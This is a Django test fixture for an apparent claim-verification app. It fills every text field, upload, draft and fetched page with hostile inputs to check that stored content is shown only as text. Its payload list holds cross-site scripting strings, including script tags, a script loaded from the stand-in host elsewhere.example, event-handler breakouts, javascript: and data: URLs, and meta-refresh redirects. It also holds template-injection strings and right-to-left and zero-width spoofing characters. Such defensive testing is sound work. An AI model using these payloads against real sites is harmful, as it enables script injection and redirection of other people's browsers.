"""Evidence that an enemy has written, in every field that holds a text, stored as the desk does.

Runs inside an installation. Which fields there are is read from the models: a new one is hostile
from its first day, and one that this cannot fill stops the tests.
"""

import json
from collections.abc import Iterable
from dataclasses import fields as fields_of
from datetime import datetime
from html import escape
from itertools import cycle
from typing import Any

from django.conf import settings
from django.db import models
from django.utils import timezone

from verification import captures, drafts, publishing, queue, second_reviews, uploads, verdicts
from verification.citing import fields
from verification.citing.cleaning import cleaned
from verification.fetching.exchanging import Exchange
from verification.fetching.fetcher import Page, Rules
from verification.findings import FITTING_STANCE, Evidence, Finding, Identity
from verification.models import (
    Capture,
    Citation,
    PageSnapshot,
    Review,
    Upload,
    User,
    Verdict,
    WithheldSource,
)

ELSEWHERE = "https://elsewhere.example"
RUN = "alert(window.ran=1)"
# A browser that takes one of these for anything but a text runs it, loads from elsewhere, or
# shows less than what is stored. None is longer than the shortest field.
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script-elsewhere": f"<script src={ELSEWHERE}/s.js></script>",
    "picture": f'<img src={ELSEWHERE}/p.png onerror="{RUN}">',
    "drawing": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "out-of-quotes": f"\" autofocus onfocus=\"{RUN}\" x=' autofocus onfocus='{RUN}' y='",
    "frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "way-out": f"</title></textarea></style></script></q></blockquote><script>{RUN}</script>",
    "form": f'<form action={ELSEWHERE}/><button autofocus onfocus="{RUN}">Submit & next</button>',
    "refresh": f'<meta http-equiv=refresh content="0,url={ELSEWHERE}/"><base href={ELSEWHERE}/>',
    "style": f"<style>*{{display:none;background:url({ELSEWHERE}/b)}}</style>",
    "script-address": f"javascript:{RUN}//",
    "data-address": f"data:text/html,<script>{RUN}</script>",
    "template": "{{ request.user }}{% debug %}${alert(1)}&lt;b&gt;&amp;",
    "turned": "Denied \u202edetroppus eht yb",
    "isolated": "\u2067\u202eeulav \u2066 no end of it",
    "right-to-left": "سجل الضحايا <b>٦٠٠٠</b> רשימה",
    "unseen": "Regi\u200bster\u200d of\ufeff \u2060names\u00ad",
}
PLAIN = "The register lists 6,000 names. "
# Texts that nobody outside has a say in: found out or made by us, out of a list of ours.
OURS = {
    Citation: frozenset({"stance"}),
    WithheldSource: frozenset[str](),
    PageSnapshot: frozenset(
        {"address", "media_type", "sha256", "warc_sha256", "text_problem", "hops"}
    ),
    Upload: frozenset({"media_type", "sha256", "text_problem"}),
}
# What only a protected source has.
PROTECTED = frozenset({"withheld_reason"})
# Fields of an item with a form of their own: a wrong one is refused.
FORMED = frozenset({"URL", "DOI", "ISBN", "ISSN", "PMID", "PMCID", "title", "page"})


def texts_of(model: type[models.Model]) -> list[str]:
    """Return the fields of a model that hold what somebody outside has written."""
    kinds = (models.CharField, models.TextField, models.JSONField)
    found = [one.name for one in model._meta.concrete_fields if isinstance(one, kinds)]
    return [name for name in found if name not in OURS[model]]


def hostile(name: str, payload: str) -> Any:
    """Return what an enemy puts into a field of a citation."""
    field = Citation._meta.get_field(name)
    if isinstance(field, models.URLField):
        return f"{ELSEWHERE}/{payload.replace(' ', '')}"
    if isinstance(field, models.JSONField):
        return item(payload)
    return f"{payload} {name}"


def item(payload: str) -> dict[str, Any]:
    """Return a CSL-JSON item in which every text is hostile, the deepest ones too."""
    raw: dict[str, Any] = {"type": "webpage", "categories": [payload]}
    raw |= {name: payload for name in (*fields.TEXTS, *fields.NUMBERS) if name not in FORMED}
    # One part of a name each, as an item must not be longer than we take.
    parts = zip(fields.NAMES, cycle(fields.NAME_TEXTS), strict=False)
    raw |= {name: [{part: payload}] for name, part in parts}
    raw |= {name: {"literal": payload} for name in fields.DATES}
    raw["custom"] = {"note": payload, payload: {payload: [payload]}}
    whole, faults = cleaned(raw)
    assert faults == [], faults
    return whole


def evidence(payload: str, **given: Any) -> Evidence:
    own = {name: hostile(name, payload) for name in texts_of(Citation) if name not in PROTECTED}
    taken = {one.name for one in fields_of(Evidence)}
    assert own.keys() <= taken, f"no way to give {own.keys() - taken}"
    return Evidence(**{"stance": Citation.Stance.REFUTES, **own, **given})


def protected(payload: str) -> Evidence:
    """Return a protected source: its description, its reason, and all that is kept apart."""
    shown = {
        name: hostile(name, payload) for name in ("title", "excerpt", "explanation", *PROTECTED)
    }
    kept = {name: hostile(name, payload) for name in texts_of(WithheldSource) if name != "notes"}
    identity = Identity(**kept, notes=f"{payload} notes")
    return Evidence(stance=Citation.Stance.REFUTES, identity=identity, **shown)


def person(name: str) -> User:
    return User.objects.get(username=name)


def fresh_review() -> Review:
    """Return a claim that nobody has come to, the least pressing one."""
    rows = Review.objects.filter(state="open", reviews_wanted=1, turns__reviewer=None)
    review = rows.order_by("-priority", "-pk").first()
    assert review is not None
    return review


def give(review: Review, name: str, rating: str, cited: Iterable[Evidence]) -> Verdict:
    now, reviewer = timezone.now(), person(name)
    turn = queue.take(review_id=review.pk, reviewer=reviewer, now=now)
    assert turn.lease_token is not None
    stance = FITTING_STANCE.get(Verdict.Rating(rating), Citation.Stance.CONTEXT)
    fitting = [Evidence(**{**_as_given(one), "stance": stance}) for one in cited]
    is_open = rating == Verdict.Rating.UNVERIFIED
    found = Finding(
        rating,
        "\n".join(PAYLOADS.values()),
        obstacle=Verdict.Obstacle.NO_PRIMARY_SOURCE if is_open else "",
        tried="\n".join(PAYLOADS.values()) if is_open else "",
        citations=tuple(fitting),
    )
    version = Review.objects.get(pk=review.pk).version
    return verdicts.submit(
        review_id=review.pk,
        reviewer=reviewer,
        finding=found,
        version=version,
        lease_token=turn.lease_token,
        now=now,
    )


def _as_given(one: Evidence) -> dict[str, Any]:
    return {field.name: getattr(one, field.name) for field in fields_of(one)}


def attached(review: Review, name: str) -> Upload:
    """Return a file whose name and content are hostile."""
    payload = PAYLOADS["picture"].replace("/", "∕")
    return uploads.store(
        review_id=review.pk,
        uploader=person(name),
        file_name=f"{payload}\u202etxt.exe",
        # By its look, a page that begins with a tag is one, and is refused.
        content="\n".join([PLAIN * 20, *PAYLOADS.values()]).encode(),
        now=timezone.now(),
    )


def page_of(payload: str, kind: str) -> bytes:
    """Return a page that does all it can, in its head and in its body."""
    # Once for a browser, and once for whoever reads its text.
    words = "\n".join(
        f"<p>{each}</p>" for each in (payload, f"{PLAIN} {escape(f'{payload} excerpt')}")
    )
    if kind == "image/svg+xml":
        return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">{words}</svg>'.encode()
    head = f"<title>{payload}</title><meta name=author content='{payload}'>"
    return f"<!DOCTYPE html><html><head>{head}</head><body>{words}</body></html>".encode()


def exchanged(url: str, payload: str, kind: str, at: datetime) -> Page:
    """Return what a hostile site answers."""
    body = page_of(payload, kind)
    headers = (("content-type", f"{kind}; {payload}"), ("x-note", payload), ("set-cookie", payload))
    return Page(
        url=url,
        exchanges=(
            Exchange(
                url=f"{url}?{payload.replace(' ', '')}",
                address="192.0.2.1",
                at=at,
                request=b"GET / HTTP/1.1\r\nHost: elsewhere.example\r\n\r\n",
                head="\r\n".join(
                    ["HTTP/1.1 200 OK", *(f"{key}: {value}" for key, value in headers), "", ""]
                ).encode(),
                raw_body=body,
                status=200,
                headers=headers,
                body=body,
            ),
        ),
    )


def keep_pages(verdict: Verdict) -> None:
    """Keep the page of each citation as a worker would, without asking anybody."""
    settings.FETCH_CITED_PAGES, settings.FETCHES_PER_SITE_PER_MINUTE = True, 1000
    kinds = ["text/html", "image/svg+xml", "text/plain"]
    payloads = list(PAYLOADS.values())
    for place, capture in enumerate(Capture.objects.filter(citation__verdict=verdict)):
        payload, kind = payloads[place % len(payloads)], kinds[place % len(kinds)]

        def fetched(url: str, _rules: Rules, payload: str = payload, kind: str = kind) -> Page:
            return exchanged(url, payload, kind, timezone.now())

        captures.take(capture_id=capture.pk, clock=timezone.now, fetch=fetched)


def stored(verdict: Verdict) -> list[dict[str, Any]]:
    """Return the texts of each citation as they are stored."""
    rows = verdict.citations.order_by("position")
    return [{"pk": row.pk, **{n: getattr(row, n) for n in texts_of(Citation)}} for row in rows]


def published(names: tuple[str, str]) -> dict[str, Any]:
    """Make a published verdict with a citation for each payload, and a file."""
    author, editor = names
    review = fresh_review()
    upload = attached(review, author)
    cited = [evidence(payload) for payload in PAYLOADS.values()]
    by_file = evidence(PAYLOADS["picture"], url="", upload_id=upload.pk)
    verdict = give(review, author, "disputed", [*cited, by_file, protected(PAYLOADS["picture"])])
    keep_pages(verdict)
    publishing.publish(
        review_id=review.pk,
        editor=person(editor),
        version=Review.objects.get(pk=review.pk).version,
        now=timezone.now(),
    )
    snapshots = PageSnapshot.objects.filter(citation__verdict=verdict)
    return {
        "review": review.pk,
        "verdict": verdict.pk,
        "citations": stored(Verdict.objects.get(pk=verdict.pk)),
        "snapshots": [
            {"pk": row.pk, **{n: getattr(row, n) for n in texts_of(PageSnapshot)}}
            for row in snapshots
        ],
        "upload": {"pk": upload.pk, **{n: getattr(upload, n) for n in texts_of(Upload)}},
    }


def differing(names: tuple[str, str, str]) -> dict[str, Any]:
    """Make a claim about which two people differ, each with hostile evidence."""
    first, second, editor = names
    review = fresh_review()
    second_reviews.want(review_id=review.pk, person=person(editor), now=timezone.now())
    found = [
        give(review, name, rating, [evidence(payload) for payload in PAYLOADS.values()])
        for name, rating in ((first, "disputed"), (second, "unverified"))
    ]
    return {"review": review.pk, "citations": [row for one in found for row in stored(one)]}


def typing(name: str) -> dict[str, Any]:
    """Have somebody hold a claim with a hostile draft on it."""
    review = fresh_review()
    queue.take(review_id=review.pk, reviewer=person(name), now=timezone.now())
    cited = []
    for payload in PAYLOADS.values():
        own = [field for field in texts_of(Citation) if field not in PROTECTED]
        texts = {field: hostile(field, payload) for field in own}
        texts |= {"url": payload, "csl": json.dumps(texts["csl"], ensure_ascii=False)}
        cited.append({**texts, "stance": payload, "published_on": payload, "upload": payload})
    typed = {"rating": "disputed", "rationale": PAYLOADS["way-out"], "citations": cited}
    drafts.save(review_id=review.pk, reviewer=person(name), data=typed, now=timezone.now())
    return {"review": review.pk, "citations": cited}


def build() -> str:
    """Make all of it, and return as JSON what is stored."""
    made = {
        "published": published(("named-0", "editor")),
        "differing": differing(("named-1", "named-2", "editor")),
        "typing": typing("named-3"),
    }
    return json.dumps(made)
